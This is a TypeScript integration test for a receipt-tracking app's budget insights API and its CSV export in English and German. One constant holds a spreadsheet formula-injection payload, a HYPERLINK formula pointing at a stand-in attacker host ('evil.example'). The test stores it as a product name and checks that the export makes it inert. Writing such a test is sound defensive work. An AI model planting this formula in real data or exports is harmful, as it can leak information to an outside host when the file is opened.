import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { textPdf } from '../support/pdfs.js';
import { addMember, bearer, createToken, setUpHousehold, type Browserless } from '../support/household.js';
import { startServer, type RunningServer } from '../support/server.js';

const TZ = 'Europe/Berlin';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak";"Klick")';

interface Item {
  id: string;
  normalized_name: string | null;
}
interface Receipt {
  id: string;
  items?: Item[] | null;
}

/** Today in the household's time zone, and the first day of the month before (`YYYY-MM-DD`). */
function days(): { today: string; previousFirst: string } {
  const today = new Intl.DateTimeFormat('en-CA', { timeZone: TZ }).format(new Date());
  const [year, month] = today.split('-').map(Number);
  const previous = new Date(Date.UTC(year, month - 2, 1));
  return { today, previousFirst: previous.toISOString().slice(0, 10) };
}
const printed = (day: string) => day.split('-').reverse().join('.');

const rewe = (lines: string[], total: string, day: string) => [
  'REWE Markt GmbH',
  'Musterstraße 12',
  '50667 Köln',
  'EUR',
  ...lines,
  '--------------------------------',
  `SUMME EUR ${total}`,
  `Datum: ${printed(day)} Uhrzeit: 18:02:11 Uhr`,
];

describe('the budget after receipts imported through the API, and its CSV', () => {
  let server: RunningServer;
  let owner: Browserless;
  let viewer: Browserless;
  const { today, previousFirst } = days();
  const month = today.slice(0, 7);

  const upload = async (lines: string[]): Promise<Receipt> => {
    const form = new FormData();
    form.append('image', new Blob([new Uint8Array(await textPdf([lines]))], { type: 'application/pdf' }), 'receipt.pdf');
    const response = await fetch(`${server.baseUrl}/api/v1/receipts/analyze`, { method: 'POST', body: form, headers: { cookie: owner.cookie ?? '' } });
    expect(response.status).toBe(200);
    return (await response.json()) as Receipt;
  };
  const importAll = async (receipt: Receipt) => expect((await owner.call('POST', `/api/v1/receipts/${receipt.id}/import`, {})).status).toBe(200);

  beforeAll(async () => {
    server = await startServer({ TZ });
    owner = await setUpHousehold(server.baseUrl);
    viewer = (await addMember(owner, 'viewer')).browser;
    await owner.json('POST', '/api/v1/catalog/products', { name: 'Vollmilch 3,5%' });
    await owner.json('POST', '/api/v1/catalog/products', { name: 'Butter' });
    const trap = await owner.json<{ id: string }>('POST', '/api/v1/catalog/products', { name: HYPERLINK });

    // This month: imported, with a line mapped by hand to the product with the formula name.
    const current = await upload(rewe(['VOLLMILCH 3,5% 1,19 A', 'BUTTER 2,29 A', 'SONDERPOSTEN 3,00 A', '3 Stk x 1,00'], '6,48', today));
    const special = current.items?.find((item) => item.normalized_name === 'SONDERPOSTEN');
    expect((await owner.call('PATCH', `/api/v1/receipts/${current.id}/items/${special?.id}`, { product_id: trap.id })).status).toBe(200);
    await importAll(current);
    // The month before, on its first day: inside the comparison window whatever today is.
    await importAll(await upload(rewe(['BUTTER 2,29 A'], '2,29', previousFirst)));
    // Still in review: data quality, not spend.
    await upload(rewe(['UNBEKANNT 9,99 A'], '9,99', today));
  });
  afterAll(() => server?.stop());

  it('counts the imported receipt this month, compares with the same days of the month before and reports the one in review', async () => {
    const overview = await viewer.json<Record<string, Record<string, unknown> & unknown[]>>('GET', '/api/v1/insights/budget?months=2');
    expect(overview.current_period).toMatchObject({ month, as_of_date: today, spent: 6.48, receipt_count: 1, average_receipt: 6.48, latest_purchase_date: today });
    expect(overview.comparison).toMatchObject({ start_date: previousFirst, spent: 2.29, receipt_count: 1, change_amount: 4.19 });
    expect(overview.months).toEqual([
      { month: previousFirst.slice(0, 7), spent: 2.29, receipt_count: 1, is_current: false },
      { month, spent: 6.48, receipt_count: 1, is_current: true },
    ]);
    expect(overview.stores).toEqual([{ store_key: 'rewe', store_name: 'REWE', spent: 6.48, receipt_count: 1, share_percent: 100 }]);
    expect(overview.data_quality).toMatchObject({ confirmed_receipt_count: 1, counted_receipt_count: 1, pending_receipt_count: 1, coverage_percent: 100 });
  });

  const expectedLines = () => [
    [today, 'REWE', 'Vollmilch 3,5%', 1, 1.19, 1.19],
    [today, 'REWE', 'Butter', 1, 2.29, 2.29],
    [today, 'REWE', `'${HYPERLINK}`, 3, 1, 3],
  ];

  it('writes the month as English CSV (comma, decimal point) that parses back to the same lines, with the formula made inert', async () => {
    const response = await viewer.call('GET', `/api/v1/insights/budget/export?month=${month}&locale=en`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="?budget-${month}\\.csv"?$`));
    const bytes = Buffer.from(await response.arrayBuffer());
    // A byte order mark first, so that Excel reads the umlauts as UTF-8.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes, { bom: true, delimiter: ',' }) as string[][];
    expect(rows[0]).toEqual(['Date', 'Store', 'Product', 'Quantity', 'Unit price', 'Line total']);
    const lines = rows.slice(1).map(([day, store, product, quantity, unit, total]) => [day, store, product, Number(quantity), Number(unit), Number(total)]);
    expect(lines).toEqual(expectedLines());
  });

  it('writes German CSV (semicolon, decimal comma) with the same lines, in the caller’s language when none is asked for', async () => {
    await owner.json('PATCH', '/api/v1/auth/preferences', { preferred_locale: 'de' });
    const text = await (await owner.call('GET', `/api/v1/insights/budget/export?month=${month}`)).text();
    const rows = parse(text, { bom: true, delimiter: ';' }) as string[][];
    expect(rows[0]).toEqual(['Datum', 'Geschäft', 'Produkt', 'Menge', 'Einzelpreis', 'Summe']);
    expect(rows[1]).toEqual([today, 'REWE', 'Vollmilch 3,5%', '1', '1,19', '1,19']);
    const number = (value: string) => Number(value.replace(',', '.'));
    const lines = rows.slice(1).map(([day, store, product, quantity, unit, total]) => [day, store, product, number(quantity), number(unit), number(total)]);
    expect(lines).toEqual(expectedLines());
  });

  it('lists an empty month with its header only, and refuses bad months, locales and tokens', async () => {
    const empty = Buffer.from(await (await owner.call('GET', '/api/v1/insights/budget/export?month=2001-01&locale=en')).arrayBuffer()).toString('utf8');
    expect(empty).toBe('\uFEFFDate,Store,Product,Quantity,Unit price,Line total\r\n');
    for (const query of ['month=2026-13', 'month=2026-1', 'month=26-01', 'locale=fr']) {
      expect((await owner.call('GET', `/api/v1/insights/budget/export?${query}`)).status, query).toBe(422);
    }
    const { token } = await createToken(owner, ['status:read', 'catalog:read', 'stock:read'], 'spreadsheet');
    expect((await fetch(`${server.baseUrl}/api/v1/insights/budget/export`, { headers: bearer(token) })).status).toBe(403);
  });
});
